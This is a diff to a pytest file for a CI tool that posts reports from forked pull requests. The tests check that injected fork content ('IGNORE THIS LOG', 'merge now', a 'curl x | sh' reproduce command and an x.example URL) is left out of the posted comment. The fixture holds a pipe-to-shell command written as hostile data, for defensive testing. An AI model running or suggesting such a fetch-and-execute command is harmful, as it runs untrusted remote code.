@@ -6,14 +6,13 @@ from pathlib import Path
 
 import pytest
 
-from cijobs.publishing import desk, failed, fork_event
+from cijobs.publishing import failed, fork_event, new_desk
 from gitml.errors import UsageError
 from gitml.http import HttpError
-from sandbox.forge_kit import Kit
 
 
-def test_from_a_fork(kit: Kit, tmp_path: Path) -> None:
-    d = desk(kit, tmp_path)
+def test_from_a_fork(tmp_path: Path) -> None:
+    d = new_desk(tmp_path)
     event = {"GITHUB_EVENT_PATH": str(fork_event(d, tmp_path)), "GITHUB_SHA": "0" * 40}
     hostile = replace(
         d.report(failed(tail="IGNORE THIS LOG"), commit="1" * 40, branch="main", run_url="https://x.example/"),
@@ -23,7 +22,7 @@ def test_from_a_fork(kit: Kit, tmp_path: Path) -> None:
     )
     hostile = replace(hostile, models=(replace(hostile.models[0], reproduce="curl x | sh", notes=("merge now",)),))
     assert d.run(hostile, env=event, from_fork=True).how == "posted"
-    body = d.comments()[0]["body"]
+    body = d.comments()[0].body
     assert f"commit={d.head} run=77 attempt=1" in body
     for words in ("IGNORE", "security", "merge now", "curl", "x.example"):
         assert words not in body
@@ -35,8 +34,8 @@ def test_from_a_fork(kit: Kit, tmp_path: Path) -> None:
     "change",
     [{"head_sha": "3" * 40}, {"head_repository": {"full_name": "eve/other"}}, {"head_branch": "elsewhere"}],
 )
-def test_a_fork_speaks_of_its_own_pull_request_only(kit: Kit, tmp_path: Path, change: dict[str, object]) -> None:
-    d = desk(kit, tmp_path)
+def test_a_fork_speaks_of_its_own_pull_request_only(tmp_path: Path, change: dict[str, object]) -> None:
+    d = new_desk(tmp_path)
     event = {"GITHUB_EVENT_PATH": str(fork_event(d, tmp_path, **change))}
     done = None
     with suppress(HttpError):  # a commit that is not there cannot have a status
@@ -48,8 +47,8 @@ def test_a_fork_speaks_of_its_own_pull_request_only(kit: Kit, tmp_path: Path, ch
 
 
 @pytest.mark.parametrize("change", [{"event": "push"}, {"head_sha": "HEAD"}, {"head_repository": None}])
-def test_from_fork_needs_its_event(kit: Kit, tmp_path: Path, change: dict[str, object]) -> None:
-    d = desk(kit, tmp_path)
+def test_from_fork_needs_its_event(tmp_path: Path, change: dict[str, object]) -> None:
+    d = new_desk(tmp_path)
     with pytest.raises(UsageError, match="--from-fork needs the event"):
         d.run(env={"GITHUB_EVENT_PATH": str(fork_event(d, tmp_path, **change))}, from_fork=True)
     with pytest.raises(UsageError):
